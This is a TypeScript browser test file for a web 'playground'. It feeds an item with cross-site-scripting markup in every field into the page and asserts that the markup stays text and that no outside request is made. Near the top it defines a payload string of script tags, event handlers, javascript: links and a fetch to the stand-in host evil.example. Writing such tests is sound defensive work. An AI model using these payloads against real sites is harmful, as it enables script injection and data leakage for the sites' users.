import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { siteInBrowser } from "../../test/site-in-browser.ts";
import { OUTPUTS } from "./outputs/outputs.ts";
import { editorText, openPlayground, pasteText } from "./test/open-playground.ts";

const site = siteInBrowser();

const RUN = "top.hacked=1;fetch('https://evil.example/x')";
const MARKUP = `"'></title></script></textarea></iframe>--><script>${RUN}</script><img src=x onerror="${RUN}"><img src="https://evil.example/p.png"><svg onload="${RUN}"><a href="javascript:${RUN}">x</a><style>*{background:url(https://evil.example/c)}</style><link rel=stylesheet href=https://evil.example/s><iframe srcdoc="<script>${RUN}</script>"></iframe><meta http-equiv=refresh content="0;url=https://evil.example/">`;

function hostileItem(): unknown {
  const text = { en: MARKUP, ar: MARKUP };
  const children = [{ _type: "span", text: MARKUP }];
  return {
    id: "hostile",
    kind: "event",
    type: "workshop",
    lang: "en",
    title: text,
    summary: text,
    body: { en: [{ _type: "block", style: "normal", children }] },
    published: "2026-01-01",
    dates: { start: "2026-06-15", asPrinted: MARKUP, basis: { kind: "inferred", reason: MARKUP } },
    place: { name: text, locality: text, country: "KE" },
    organizers: [{ name: text, role: "organizer", url: "https://evil.example/" }],
    topics: ["water"],
    themes: [{ en: MARKUP }],
    outcomes: [{ type: "recommendation", text }],
    documents: [{ title: text, url: "https://evil.example/d" }],
    images: [{ url: "https://evil.example/i.png", alt: text }],
    links: [{ title: text, url: "https://evil.example/l" }],
    trail: [{ title: text, url: "https://evil.example/t" }],
    source: {
      importer: MARKUP,
      facts: [{ path: "/title", quote: MARKUP, basis: "inferred", reason: MARKUP }],
      notes: [{ code: "x", severity: "warning", path: MARKUP, message: MARKUP, confidence: 0.5 }],
    },
  };
}

/** Opens the playground, and collects what leaves the browser for another address than the site's. */
async function openWatched(prepare?: (page: Page) => Promise<unknown>) {
  const sent: string[] = [];
  const { page, close } = await openPlayground(site.browser, site.url, {
    prepare: async (page) => {
      await page.route(
        (url) => url.origin !== site.url,
        (route) => {
          sent.push(route.request().url());
          return route.abort();
        },
      );
      await prepare?.(page);
    },
  });
  return { page, sent, close };
}

async function expectHarmless(page: Page, sent: readonly string[]): Promise<void> {
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
  expect(sent).toEqual([]);
  expect(page.url()).toBe(`${site.url}/playground/`);
}

test("markup in every field of an item stays a text, in every output, and nothing is asked for", async () => {
  const { page, sent, close } = await openWatched();
  await pasteText(page, JSON.stringify(hostileItem(), null, 1));
  await expect.poll(() => page.locator("#play-state").innerText()).toBe("No faults.");
  for (const { label, name, seen } of OUTPUTS) {
    await page.getByRole("tab", { name: label }).click();
    const panel = page.locator(`#play-panel-${name}`);
    if (seen) {
      const frame = panel.frameLocator(".play-frame:not([data-waiting])");
      await frame.getByText("<script>").first().waitFor();
      expect(await frame.locator("script, iframe, svg, style, [onerror], [onload]").count()).toBe(0);
    } else await expect.poll(() => panel.innerText()).toContain("evil.example");
  }
  await page.selectOption("#play-lang", "ar");
  await page.locator("#play-origin summary").click();
  await expectHarmless(page, sent);
  await close();
});

test("markup in names of fields, in values that are refused and in what follows an error stays a text", async () => {
  const { page, sent, close } = await openWatched();
  const url = `javascript:${RUN}`;
  const faulty = { id: MARKUP, kind: MARKUP, [MARKUP]: MARKUP, links: [{ title: MARKUP, url }] };
  await pasteText(page, JSON.stringify([faulty, { ...faulty, kind: "news", lang: "en", title: MARKUP }]));
  await page.locator("#play-faults li").first().waitFor();
  expect(await page.locator("#play-faults").locator("script, img, svg, iframe").count()).toBe(0);
  await pasteText(page, `{"a": ${MARKUP}`);
  await expect.poll(() => page.locator("#play-state").innerText()).toContain("One fault");
  await expectHarmless(page, sent);
  await close();
});

test("a pasted page is read, and never run or loaded", async () => {
  const { page, sent, close } = await openWatched();
  await page.getByRole("button", { name: "Paste an old page" }).click();
  await page.fill(
    "#play-page",
    `<title>${MARKUP}</title><h1>Hostile ${MARKUP}</h1><p>On May 3, 2004, some 40 participants gathered in Nairobi, Kenya, for a workshop titled "Wells". ${MARKUP}</p>`,
  );
  await page.fill("#play-address", "https://evil.example/2004_05_07.html");
  await page.getByRole("button", { name: "Read the page" }).click();
  await expect.poll(() => editorText(page)).toContain("Nairobi");
  await page.getByRole("tab", { name: "Card" }).click();
  await expectHarmless(page, sent);
  await close();
});

test("even markup that no output would make does not run where outputs are shown", async () => {
  const { page, sent, close } = await openWatched((page) =>
    page.addInitScript((markup) => {
      const { addEventListener } = Worker.prototype;
      Worker.prototype.addEventListener = function (
        this: Worker,
        type: string,
        listener: (event: Event) => void,
      ) {
        addEventListener.call(this, type, (event: Event) => {
          const made = event instanceof MessageEvent ? event.data?.answer?.made : undefined;
          if (made) made.seen = `<body><p>Unescaped.</p>${markup}</body>`;
          listener(event);
        });
      } as typeof addEventListener;
    }, MARKUP),
  );
  const frame = page.frameLocator("#play-panel-page .play-frame:not([data-waiting])");
  await frame.getByText("Unescaped.").waitFor();
  expect(await frame.locator("script").count()).toBeGreaterThan(0);
  await expectHarmless(page, sent);
  await close();
});
